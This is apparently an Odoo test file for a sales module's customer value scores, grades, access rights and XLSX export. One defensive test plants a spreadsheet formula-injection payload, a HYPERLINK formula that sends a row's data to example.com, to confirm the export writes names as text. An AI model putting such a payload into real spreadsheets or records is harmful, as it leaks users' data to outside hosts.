import io
from datetime import date

import openpyxl
from freezegun import freeze_time

from odoo import Command
from odoo.exceptions import AccessError, ValidationError
from odoo.tests import tagged

from odoo.addons.sfa_base.tests.common import SfaCase

from .xlsx_common import exported

TODAY = date(2026, 6, 30)


@tagged("post_install", "-at_install")
class TestCustomerValue(SfaCase):
    """Computed on 30 June 2026 over the default window of 12 months (from
    30 June 2025: 365 days) and weights 30/20/30/20, worked out by hand.

    One product sells at 100 and costs 60 (margin 40 a unit).

    Alpha (rep_a, category Key: visit every 30 days): 10 units ordered in
    March (purchases 1000, margin 400); invoiced 1000 due 14 April, 600 paid,
    400 overdue; three done visits costing 50 each (profit 400 - 150 = 250);
    last contact 20 June (10 days ago).
    Bravo (rep_b, no category: norm 30 days): 30 units in April (3000,
    margin 1200) and 5 units in January 2025, outside the window; invoiced
    3000 due 1 July, not yet due, unpaid; one visit costing 1500 (profit
    -300); last contact 1 April (90 days ago).
    Charlie (rep_c, category Occasional: every 60 days): 20 units in May
    (2000, margin 800); invoiced 2000 and paid, a credit note of 500 not yet
    refunded (receivable -500); no action, an e-mail on 25 June (its last
    contact). Visits and e-mails count as contacts here, not orders.
    Delta (rep_a, category Key): nothing but its category.

    Purchasing power, CUME_DIST over the three buyers: Alpha 1/3, Charlie
    2/3, Bravo 1 -> 33.33, 66.67, 100; Delta 0.
    Credit standing, received / (received + overdue): Alpha 600/1000 = 60;
    the others owe nothing overdue: 100.
    Profit, CUME_DIST over the two profitable: Alpha 50, Charlie 100; Bravo
    and Delta 0.
    Relationship, (frequency + recency) / 2 with frequency = contacts x norm
    / 365 (capped 100) and recency 100 up to the norm, 0 at three norms:
    Alpha (3 x 30 / 365 = 24.66 + 100) / 2 = 62.33, steady; Bravo (1 x 30 /
    365 = 8.22 + 0) / 2 = 4.11, dormant; Charlie (1 x 60 / 365 = 16.44 +
    100) / 2 = 58.22, steady;
    Delta no contact: 0, dormant.
    Overall: Alpha 0.3 x 33.33 + 0.2 x 60 + 0.3 x 50 + 0.2 x 62.33 = 49.47,
    C; Bravo 30 + 20 + 0 + 0.82 = 50.82, B; Charlie 20 + 20 + 30 + 11.64 =
    81.64, A; Delta 0.2 x 100 = 20, D.
    """

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        env = cls.env
        # this example counts visits and e-mails as contacts, not orders
        cls.company.sfa_contact_order = False
        Category = env["sfa.customer.category"]
        cls.key = Category.create({"name": "Key", "visit_frequency_days": 30})
        cls.occasional = Category.create(
            {"name": "Occasional", "visit_frequency_days": 60}
        )
        cls.cust_a.sfa_category_id = cls.key
        cls.cust_c.sfa_category_id = cls.occasional
        cls.cust_d = env["res.partner"].create(
            {
                "name": "Delta",
                "is_company": True,
                "user_id": cls.rep_a.id,
                "sfa_category_id": cls.key.id,
            }
        )
        cls.product = env["product.product"].create(
            {"name": "Widget", "list_price": 100, "standard_price": 60}
        )

        def order(partner, user, qty, when):
            with freeze_time(when):
                sale = env["sale.order"].create(
                    {
                        "partner_id": partner.id,
                        "user_id": user.id,
                        "order_line": [
                            (
                                0,
                                0,
                                {
                                    "product_id": cls.product.id,
                                    "product_uom_qty": qty,
                                    "price_unit": 100,
                                    "tax_ids": [(6, 0, [])],
                                },
                            )
                        ],
                    }
                )
                sale.action_confirm()
            return sale

        order(cls.cust_a, cls.rep_a, 10, "2026-03-10 10:00:00")
        order(cls.cust_b, cls.rep_b, 30, "2026-04-10 10:00:00")
        order(cls.cust_b, cls.rep_b, 5, "2025-01-10 10:00:00")
        order(cls.cust_c, cls.rep_c, 20, "2026-05-10 10:00:00")

        def invoice(partner, amount, when, due, move_type="out_invoice"):
            move = env["account.move"].create(
                {
                    "move_type": move_type,
                    "partner_id": partner.id,
                    "invoice_date": when,
                    "invoice_date_due": due,
                    "invoice_line_ids": [
                        (
                            0,
                            0,
                            {
                                "name": "Widgets",
                                "quantity": 1,
                                "price_unit": amount,
                                "tax_ids": [(6, 0, [])],
                            },
                        )
                    ],
                }
            )
            move.action_post()
            return move

        def pay(move, amount, when):
            env["account.payment.register"].with_context(
                active_model="account.move", active_ids=move.ids
            ).create({"amount": amount, "payment_date": when})._create_payments()

        pay(invoice(cls.cust_a, 1000, "2026-03-15", "2026-04-14"), 600, "2026-04-01")
        invoice(cls.cust_b, 3000, "2026-06-01", "2026-07-01")
        pay(invoice(cls.cust_c, 2000, "2026-04-01", "2026-05-01"), 2000, "2026-04-20")
        invoice(cls.cust_c, 500, "2026-05-01", "2026-05-01", "out_refund")

        visit = env.ref("sfa_pipeline.sfa_action_type_visit")

        def action(partner, user, when, cost):
            with freeze_time(when):  # done then
                env["sfa.action"].create(
                    {
                        "action_type_id": visit.id,
                        "partner_id": partner.id,
                        "user_id": user.id,
                        "start": when,
                        "state": "done",
                        "cost": cost,
                        "outcome": "Met the buyer.",
                    }
                )

        for day in ("2026-02-02", "2026-04-02", "2026-06-20"):
            action(cls.cust_a, cls.rep_a, f"{day} 09:00:00", 50)
        action(cls.cust_a, cls.rep_a, "2025-03-01 09:00:00", 999)  # before the window
        action(cls.cust_b, cls.rep_b, "2026-04-01 09:00:00", 1500)
        # Charlie wrote on 25 June
        with freeze_time("2026-06-25 09:00:00"):
            cls.cust_c.message_post(
                body="Thanks", message_type="email", author_id=cls.cust_c.id
            )
        cls.Value = env["sfa.customer.value"]
        cls.Value._sfa_compute(cls.company, today=TODAY)

    def value(self, partner):
        return self.Value.search(
            [("partner_id", "=", partner.id), ("company_id", "=", self.company.id)]
        )

    def test_facts(self):
        expected = {
            # orders, purchases, invoiced, received, receivable, overdue,
            # margin, action costs, profit, contacts
            self.cust_a: (1, 1000, 1000, 600, 400, 400, 400, 150, 250, 3),
            self.cust_b: (1, 3000, 3000, 0, 3000, 0, 1200, 1500, -300, 1),
            self.cust_c: (1, 2000, 1500, 2000, -500, 0, 800, 0, 800, 1),
            self.cust_d: (0, 0, 0, 0, 0, 0, 0, 0, 0, 0),
        }
        for partner, figures in expected.items():
            value = self.value(partner)
            self.assertEqual(len(value), 1, partner.name)
            self.assertEqual(
                (
                    value.order_count,
                    value.sales_amount,
                    value.invoiced_amount,
                    value.received_amount,
                    value.receivable_amount,
                    value.overdue_amount,
                    value.margin_amount,
                    value.action_cost,
                    value.profit_amount,
                    value.contact_count,
                ),
                figures,
                partner.name,
            )
            self.assertEqual(value.date_from, date(2025, 6, 30))
            self.assertEqual(value.date_to, TODAY)
            self.assertEqual(value.user_id, partner.user_id)
        self.assertEqual(self.value(self.cust_a).last_contact_date, date(2026, 6, 20))
        self.assertEqual(self.value(self.cust_a).sfa_territory_id, self.t_lille)

    def test_scores_and_grades(self):
        expected = {
            # purchasing, credit, profit, relationship, level, score, grade
            self.cust_a: (33.33, 60, 50, 62.33, "steady", 49.47, "c"),
            self.cust_b: (100, 100, 0, 4.11, "dormant", 50.82, "b"),
            self.cust_c: (66.67, 100, 100, 58.22, "steady", 81.64, "a"),
            self.cust_d: (0, 100, 0, 0, "dormant", 20, "d"),
        }
        for partner, figures in expected.items():
            value = self.value(partner)
            self.assertEqual(
                (
                    value.purchase_score,
                    value.credit_score,
                    value.profit_score,
                    value.relationship_score,
                    value.relationship_level,
                    value.score,
                    value.grade,
                ),
                figures,
                partner.name,
            )
        self.assertEqual(self.cust_c.sfa_value_grade, "a")
        self.assertEqual(self.cust_a.with_user(self.rep_a).sfa_value_grade, "c")

    def test_company_weights(self):
        """Weights only on purchasing power: the grade follows purchases
        (Alpha 33.33: C, Bravo 100: A, Charlie 66.67: B)."""
        self.company.write(
            {
                "sfa_value_weight_purchase": 100,
                "sfa_value_weight_credit": 0,
                "sfa_value_weight_profit": 0,
                "sfa_value_weight_relationship": 0,
            }
        )
        self.Value._sfa_compute(self.company, today=TODAY)
        self.assertEqual(
            [self.value(p).grade for p in (self.cust_a, self.cust_b, self.cust_c)],
            ["c", "a", "b"],
        )

    def test_bad_weights(self):
        before = self.company._sfa_value_weights()
        with self.assertRaises(ValidationError) as caught:
            self.company.write(
                {"sfa_value_weight_purchase": 50, "sfa_value_weight_credit": 30}
            )
        self.assertIn("must add up to 100 %", str(caught.exception))
        self.assertIn("130.0", str(caught.exception))
        self.company.invalidate_recordset()
        self.assertEqual(self.company._sfa_value_weights(), before)
        with self.assertRaises(ValidationError):
            self.company.write(
                {"sfa_value_weight_purchase": -10, "sfa_value_weight_credit": 60}
            )
        with self.assertRaises(ValidationError):
            self.company.sfa_value_months = 0

    def test_recompute_in_place(self):
        """A second run updates the rows it keeps and removes the customers
        left with no fact: Delta, once it has no category any more."""
        ids = {p: self.value(p).id for p in (self.cust_a, self.cust_b, self.cust_c)}
        self.cust_d.sfa_category_id = False
        self.cust_a.sfa_last_contact_date = False
        self.Value._sfa_compute(self.company, today=TODAY)
        self.assertEqual({p: self.value(p).id for p in ids}, ids)
        self.assertFalse(self.value(self.cust_d))
        # no contact any more: relationship 24.66 / 2, the score falls by 10.
        self.assertEqual(self.value(self.cust_a).relationship_score, 12.33)
        self.assertEqual(self.value(self.cust_a).score, 39.47)

    def test_balances_follow_payments_at_once(self):
        """Received, receivable and overdue are facts: a payment, an invoice
        of two years ago still open, and a day passing move them on the next
        compute, with no nightly rebuild between."""
        invoice = self.env["account.move"].search(
            [("partner_id", "=", self.cust_b.id), ("move_type", "=", "out_invoice")]
        )
        self.env["account.payment.register"].with_context(
            active_model="account.move", active_ids=invoice.ids
        ).create({"amount": 1000, "payment_date": "2026-06-20"})._create_payments()
        old = self.env["account.move"].create(
            {
                "move_type": "out_invoice",
                "partner_id": self.cust_b.id,
                "invoice_date": "2024-05-01",
                "invoice_date_due": "2024-05-31",
                "invoice_line_ids": [
                    Command.create(
                        {"name": "Old", "price_unit": 70, "tax_ids": [Command.clear()]}
                    )
                ],
            }
        )
        old.action_post()
        self.Value._sfa_compute(self.company, today=TODAY)
        value = self.value(self.cust_b)
        # received: the window's invoices only; receivable: every open one
        self.assertEqual(
            (value.received_amount, value.receivable_amount, value.overdue_amount),
            (1000, 2070, 70),
        )
        # on 2 July the June invoice is past due too
        self.Value._sfa_compute(self.company, today=date(2026, 7, 2))
        self.assertEqual(self.value(self.cust_b).overdue_amount, 2070)

    def test_which_customers_and_companies(self):
        """A prospect with no fact, rank or category gets no value; a
        customer of the other company is valued there only, and computing
        one company leaves the other's values alone."""
        self.cust_other.sfa_category_id = self.key
        self.Value._sfa_compute(self.company | self.company_2, today=TODAY)
        self.assertFalse(self.value(self.cust_free))
        other = self.Value.search([("partner_id", "=", self.cust_other.id)])
        self.assertEqual(other.company_id, self.company_2)
        self.assertEqual((other.grade, other.score), ("d", 20))
        self.assertEqual(
            len(self.Value.search([("company_id", "=", self.company.id)])), 4
        )
        self.Value._sfa_compute(self.company, today=TODAY)
        self.assertTrue(other.exists())

    def test_visibility(self):
        values = self.Value.search([])
        cases = {
            self.rep_a: self.cust_a | self.cust_d,
            self.rep_b: self.cust_b,
            self.supervisor: self.cust_a | self.cust_b | self.cust_d,
            self.manager_2: self.cust_c,
            self.territory_manager: self.cust_c,
            self.director: self.cust_a | self.cust_b | self.cust_c | self.cust_d,
            self.other_rep: self.env["res.partner"],
        }
        for user, partners in cases.items():
            seen = self.Value.with_user(user).search([("id", "in", values.ids)])
            self.assertEqual(seen.partner_id, partners, user.login)

    def test_recompute_rights(self):
        with self.assertRaises(AccessError):
            self.Value.with_user(self.rep_a).action_sfa_recompute()
        self.cust_a.sfa_last_contact_date = "2026-06-29"
        done = self.Value.with_user(self.supervisor).action_sfa_recompute()
        # the supervisor is told what was done, then the list reloads
        self.assertEqual(done["tag"], "display_notification")
        seen = self.Value.with_user(self.supervisor).search_count([])
        self.assertIn(f"{seen} customers you can see graded", done["params"]["message"])
        self.assertEqual(done["params"]["next"]["tag"], "soft_reload")
        # recomputed today: a contact yesterday is within the norm
        self.assertEqual(self.value(self.cust_a).date_to, date.today())

    def test_export_writes_names_as_text(self):
        """A customer named like a formula stayed a live formula in the sheet,
        sending the row's data to an address when opened."""
        name = '=HYPERLINK("http://example.com/?"&C5,"Open")'
        self.cust_a.name = name
        self.rep_a.name = "http://rep.example.com"
        values = self.Value.with_user(self.supervisor).search([])
        _file_name, raw = exported(values)
        sheet = openpyxl.load_workbook(io.BytesIO(raw))["Customer Value"]
        cells = {row[0].value: row for row in sheet.iter_rows(min_row=5)}
        alpha = cells[name]
        self.assertEqual(alpha[0].data_type, "s", "text, not a formula")
        self.assertEqual(alpha[3].value, "http://rep.example.com")
        self.assertIsNone(alpha[3].hyperlink)
        self.assertEqual(alpha[2].data_type, "n", "the score stays a number")
        self.assertEqual(cells["Total"][7].data_type, "f", "totals stay formulas")

    def test_export_xlsx(self):
        values = self.Value.with_user(self.supervisor).search([])
        name, raw = exported(values)
        book = openpyxl.load_workbook(io.BytesIO(raw))
        sheet = book["Customer Value"]
        self.assertEqual(sheet["A1"].value, "Customer Value")
        self.assertEqual(
            sheet["A2"].value,
            "Orders, invoices and actions from 2025-06-30 to 2026-06-30",
        )
        headers = [cell.value for cell in sheet[4]]
        self.assertEqual(
            headers[:12],
            [
                "Customer",
                "Grade",
                "Score",
                "Salesperson",
                "Territory",
                "Category",
                "Orders",
                "Purchases",
                "Invoiced",
                "Received",
                "Receivable",
                "Overdue",
            ],
        )
        rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=5)]
        # best first: Bravo (50.82), Alpha (49.47), Delta (20); then totals
        self.assertEqual(
            [r[0] for r in rows], ["Bravo SA", "Alpha SARL", "Delta", "Total"]
        )
        alpha = rows[1]
        self.assertEqual(alpha[1:4], ["C", 49.47, "Rep A"])
        self.assertEqual(alpha[7:12], [1000, 1000, 600, 400, 400])
        self.assertEqual(alpha[14], 250)
        self.assertEqual(rows[3][7], "=SUM(H5:H7)")
        self.assertEqual(sheet.page_setup.orientation, "landscape")
        cached = openpyxl.load_workbook(io.BytesIO(raw), data_only=True)
        self.assertEqual(cached["Customer Value"]["H8"].value, 4000)
